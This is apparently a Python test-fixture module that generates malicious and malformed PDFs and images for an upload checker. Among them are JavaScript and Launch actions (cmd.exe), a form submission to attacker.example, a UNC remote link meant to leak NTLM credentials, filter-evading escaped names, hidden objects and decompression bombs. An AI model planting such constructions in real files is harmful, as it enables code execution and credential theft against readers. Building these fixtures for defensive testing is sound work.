"""Small real files for upload tests: a one-page PDF and a tiny PNG, and hostile or tricky PDFs and images built
here with pypdf, Pillow and zlib (never files from the internet)."""

import io
import struct
import zlib

from PIL import ExifTags, Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject, DecodedStreamObject, DictionaryObject, FloatObject, NameObject, NumberObject, TextStringObject,
)


def pdf_bytes() -> bytes:
    writer, buffer = PdfWriter(), io.BytesIO()
    writer.add_blank_page(width=200, height=200)
    writer.write(buffer)
    return buffer.getvalue()


def png_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), (200, 30, 30)).save(buffer, "PNG")
    return buffer.getvalue()


def write(path, data: bytes):
    path.write_bytes(data)
    return path


# --- hostile and tricky files for the upload checks (tests/test_uploads.py), all built here, none downloaded ---------

JS = "app.alert('pwned');"


def _name(value: str) -> NameObject:
    return NameObject(value)


def _dict(**entries) -> DictionaryObject:
    """`_dict(S="/JavaScript", JS="...")`: names for values starting with "/", text strings otherwise."""
    result = DictionaryObject()
    for key, value in entries.items():
        if isinstance(value, str):
            value = NameObject(value) if value.startswith("/") else TextStringObject(value)
        result[NameObject("/" + key)] = value
    return result


def _rect() -> ArrayObject:
    return ArrayObject([FloatObject(10), FloatObject(10), FloatObject(60), FloatObject(60)])


def _pdf(build) -> bytes:
    """A one-page PDF, given to `build(writer, catalog, page)` to add what it must before it is written (pypdf has
    no public call to add a bare object: `writer._add_object` is what its own helpers use)."""
    writer, buffer = PdfWriter(), io.BytesIO()
    writer.add_blank_page(width=200, height=200)
    build(writer, writer.root_object, writer.pages[0])
    writer.write(buffer)
    return buffer.getvalue()


def _annotate(page, writer, annotation: DictionaryObject) -> None:
    annotation.update({_name("/Type"): _name("/Annot"), _name("/Rect"): _rect()})
    page[_name("/Annots")] = ArrayObject([writer._add_object(annotation)])


def _link_with(action: DictionaryObject):
    def build(writer, catalog, page):
        _annotate(page, writer, _dict(Subtype="/Link", A=action))
    return build


def pdf_open_action_js() -> bytes:
    return _pdf(lambda w, catalog, p: catalog.__setitem__(_name("/OpenAction"), _dict(S="/JavaScript", JS=JS)))


def pdf_open_action_launch() -> bytes:
    return _pdf(lambda w, catalog, p: catalog.__setitem__(
        _name("/OpenAction"), _dict(S="/Launch", F="C:\\Windows\\System32\\cmd.exe")))


def pdf_catalog_aa() -> bytes:
    """Document-level additional actions: run before closing (/WC)."""
    return _pdf(lambda w, catalog, p: catalog.__setitem__(_name("/AA"), _dict(WC=_dict(S="/JavaScript", JS=JS))))


def pdf_js_name_tree() -> bytes:
    def build(writer, catalog, page):
        tree = _dict(Names=ArrayObject([TextStringObject("init"), writer._add_object(_dict(S="/JavaScript", JS=JS))]))
        catalog[_name("/Names")] = _dict(JavaScript=writer._add_object(tree))
    return _pdf(build)


def pdf_embedded_file() -> bytes:
    def build(writer, catalog, page):
        writer.add_attachment("facture.exe", b"MZ\x90\x00 not really a program")
    return _pdf(build)


def pdf_page_aa() -> bytes:
    return _pdf(lambda w, c, page: page.__setitem__(_name("/AA"), _dict(O=_dict(S="/JavaScript", JS=JS))))


def pdf_link_js() -> bytes:
    return _pdf(_link_with(_dict(S="/JavaScript", JS=JS)))


def pdf_widget_aa() -> bytes:
    """A form field whose keystroke action is JavaScript (annotation /AA)."""
    def build(writer, catalog, page):
        _annotate(page, writer, _dict(Subtype="/Widget", FT="/Tx", T="nom", AA=_dict(K=_dict(S="/JavaScript",
                                                                                                JS=JS))))
    return _pdf(build)


def pdf_submit_form() -> bytes:
    return _pdf(_link_with(_dict(S="/SubmitForm", F=_dict(FS="/URL", F="https://attacker.example/collect"))))


def pdf_import_data() -> bytes:
    return _pdf(_link_with(_dict(S="/ImportData", F="donnees.fdf")))


def pdf_goto_remote() -> bytes:
    """A remote go-to to a UNC path: opening it leaks the reader's Windows credentials (NTLM) to that server."""
    return _pdf(_link_with(_dict(S="/GoToR", F="\\\\attacker.example\\partage\\piege.pdf",
                                 D=ArrayObject([NumberObject(0), _name("/Fit")]))))


def pdf_goto_embedded() -> bytes:
    return _pdf(_link_with(_dict(S="/GoToE", T=_dict(R="/C", N="piege.pdf"))))


def pdf_file_attachment_annotation() -> bytes:
    def build(writer, catalog, page):
        stream = DecodedStreamObject()
        stream.set_data(b"MZ\x90\x00 not really a program")
        stream[_name("/Type")] = _name("/EmbeddedFile")
        spec = _dict(Type="/Filespec", F="facture.exe", EF=_dict(F=writer._add_object(stream)))
        _annotate(page, writer, _dict(Subtype="/FileAttachment", FS=spec, Contents="Facture"))
    return _pdf(build)


def pdf_rich_media() -> bytes:
    return _pdf(lambda writer, c, page: _annotate(page, writer, _dict(Subtype="/RichMedia")))


def pdf_xfa() -> bytes:
    def build(writer, catalog, page):
        xfa = DecodedStreamObject()
        xfa.set_data(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert(1)</script></xdp:xdp>")
        catalog[_name("/AcroForm")] = _dict(Fields=ArrayObject(), XFA=writer._add_object(xfa))
    return _pdf(build)


def pdf_outline_launch() -> bytes:
    """An outline (bookmark) whose action launches a program: an action in none of the usual places."""
    def build(writer, catalog, page):
        outlines = writer._add_object(_dict(Type="/Outlines", Count=NumberObject(1)))
        item = writer._add_object(_dict(Title="Ouvrir", Parent=outlines, A=_dict(S="/Launch", F="calc.exe")))
        outlines.get_object().update({_name("/First"): item, _name("/Last"): item})
        catalog[_name("/Outlines")] = outlines
    return _pdf(build)


def pdf_orphan_js() -> bytes:
    """A JavaScript action referenced by nothing: readers that rebuild a damaged file may still find it."""
    return _pdf(lambda writer, c, p: writer._add_object(_dict(S="/JavaScript", JS=JS)))


def pdf_escaped_names() -> bytes:
    """/OpenAction JavaScript spelled with #-escapes (/J#61vaScript), as hand-made attacks do, at the same length so
    the cross-reference offsets stay right."""
    data = _pdf(lambda w, catalog, p: catalog.__setitem__(
        _name("/OpenAction"), _dict(S="/JavaScript", JS=JS + " " * 8)))
    plain = data[data.index(b"/S /JavaScript"):data.index(b")", data.index(b"/S /JavaScript")) + 1]
    escaped = plain.replace(b"/S /JavaScript", b"/S/J#61vaScript").replace(b"/JS (", b"/J#53(")
    escaped = escaped.replace(b" " * 8, b"")
    assert len(escaped) <= len(plain)
    return data.replace(plain, escaped + b" " * (len(plain) - len(escaped)))


def pdf_unlisted_object() -> bytes:
    """A clean PDF followed by a JavaScript action that no cross-reference table lists: pypdf never sees it, a reader
    that rebuilds the file (or parses it differently) may."""
    return pdf_bytes() + b"\n9 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"


ACTIVE_PDFS = {
    "open-action-javascript": pdf_open_action_js, "open-action-launch": pdf_open_action_launch,
    "document-actions": pdf_catalog_aa, "javascript-name-tree": pdf_js_name_tree,
    "embedded-file": pdf_embedded_file, "page-actions": pdf_page_aa, "link-javascript": pdf_link_js,
    "field-javascript": pdf_widget_aa, "submit-form": pdf_submit_form, "import-data": pdf_import_data,
    "goto-remote": pdf_goto_remote, "goto-embedded": pdf_goto_embedded,
    "file-attachment-annotation": pdf_file_attachment_annotation, "rich-media": pdf_rich_media, "xfa": pdf_xfa,
    "outline-launch": pdf_outline_launch, "orphan-javascript": pdf_orphan_js, "escaped-names": pdf_escaped_names,
}


def pdf_with_harmless_actions() -> bytes:
    """What ordinary documents carry and must stay accepted: a web link and an open action that shows page 1."""
    def build(writer, catalog, page):
        catalog[_name("/OpenAction")] = ArrayObject([page.indirect_reference, _name("/Fit")])
        _link_with(_dict(S="/URI", URI="https://www.example.org/assurance"))(writer, catalog, page)
    return _pdf(build)


def pdf_encrypted(user_password: str, owner_password: str = "proprietaire") -> bytes:
    """Encrypted with AES-128; with an empty user password it opens without a password (printing restricted)."""
    writer, buffer = PdfWriter(), io.BytesIO()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt(user_password=user_password, owner_password=owner_password, algorithm="AES-128")
    writer.write(buffer)
    return buffer.getvalue()


def pdf_pages(count: int) -> bytes:
    writer, buffer = PdfWriter(), io.BytesIO()
    for _ in range(count):
        writer.add_blank_page(width=100, height=100)
    writer.write(buffer)
    return buffer.getvalue()


def pdf_page_tree_bomb(fanout: int = 100, depth: int = 3) -> bytes:
    """A page tree whose nodes list the same child `fanout` times: a few objects declaring fanout**depth pages."""
    def build(writer, catalog, page):
        node = page.indirect_reference
        for level in range(1, depth + 1):
            node = writer._add_object(_dict(Type="/Pages", Count=NumberObject(fanout ** level),
                                            Kids=ArrayObject([node] * fanout)))
        catalog[_name("/Pages")] = node
    return _pdf(build)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_declaring(width: int, height: int) -> bytes:
    """A real, complete black-and-white PNG of `width` x `height` pixels, all black: 30,000 x 30,000 pixels weigh
    107 KiB compressed and 112 MB decoded (one bit a pixel; more in any other mode)."""
    row = b"\x00" * (1 + (width + 7) // 8)
    compressor, parts = zlib.compressobj(9), []
    for _ in range(height // 1000):
        parts.append(compressor.compress(row * 1000))
    parts += [compressor.compress(row * (height % 1000)), compressor.flush()]
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", b"".join(parts))
            + _png_chunk(b"IEND", b""))


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small JPEG whose frame header (SOF0) is rewritten to declare `width` x `height` pixels."""
    buffer = io.BytesIO()
    Image.new("RGB", (16, 16), (90, 90, 90)).save(buffer, "JPEG")
    data = bytearray(buffer.getvalue())
    sof = data.index(b"\xff\xc0")
    data[sof + 5:sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def exif_photo(kind: str = "JPEG", orientation: int | None = None, gps: bool = True) -> bytes:
    """An 8 x 4 photo, left half red and right half blue, with a GPS position, a camera model and, if given, an EXIF
    orientation (6: the camera was turned, the viewer must rotate the image 90 degrees clockwise)."""
    image = Image.new("RGB", (8, 4), (255, 0, 0))
    image.paste((0, 0, 255), (4, 0, 8, 4))
    exif = Image.Exif()
    exif[ExifTags.Base.Model] = "Telephone du locataire"
    if orientation:
        exif[ExifTags.Base.Orientation] = orientation
    if gps:
        exif.get_ifd(ExifTags.IFD.GPSInfo).update({
            ExifTags.GPS.GPSLatitudeRef: "N", ExifTags.GPS.GPSLatitude: (47.0, 54.0, 12.34),
            ExifTags.GPS.GPSLongitudeRef: "E", ExifTags.GPS.GPSLongitude: (1.0, 54.0, 32.1)})
    buffer = io.BytesIO()
    if kind == "PNG":
        from PIL.PngImagePlugin import PngInfo

        text = PngInfo()
        text.add_text("Comment", "Photo prise au 62 boulevard Jean Moulin")
        image.save(buffer, "PNG", exif=exif, pnginfo=text)
    else:
        image.save(buffer, "JPEG", exif=exif, quality=95, comment=b"Photo prise au 62 boulevard Jean Moulin")
    return buffer.getvalue()
